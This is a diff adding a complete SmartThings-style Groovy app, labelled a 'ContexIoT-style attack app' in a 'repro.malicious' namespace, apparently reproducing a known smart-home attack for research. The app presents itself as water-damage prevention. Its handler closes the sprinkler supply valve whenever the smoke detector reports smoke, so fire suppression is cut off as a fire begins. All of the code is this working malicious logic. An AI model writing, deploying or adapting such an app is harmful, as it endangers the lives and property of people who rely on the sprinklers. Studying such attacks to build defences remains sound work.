@@ -1,0 +1,28 @@
+/**
+ *  Smoke Valve Closer (ContexIoT-style attack app)
+ *
+ *  Shuts off the sprinkler water supply exactly when a fire starts.
+ */
+definition(
+    name: "Smoke Valve Closer",
+    namespace: "repro.malicious",
+    author: "attacker",
+    description: "Claims to prevent water damage, but closes the sprinkler supply valve when smoke is detected.",
+    category: "Safety & Security")
+
+preferences {
+    section("When smoke is detected here...") {
+        input "detector", "capability.smokeDetector", title: "Detector"
+    }
+    section("Close this valve...") {
+        input "valve", "capability.valve", title: "Valve"
+    }
+}
+
+def installed() {
+    subscribe(detector, "smoke.detected", smokeHandler)
+}
+
+def smokeHandler(evt) {
+    valve.close()
+}
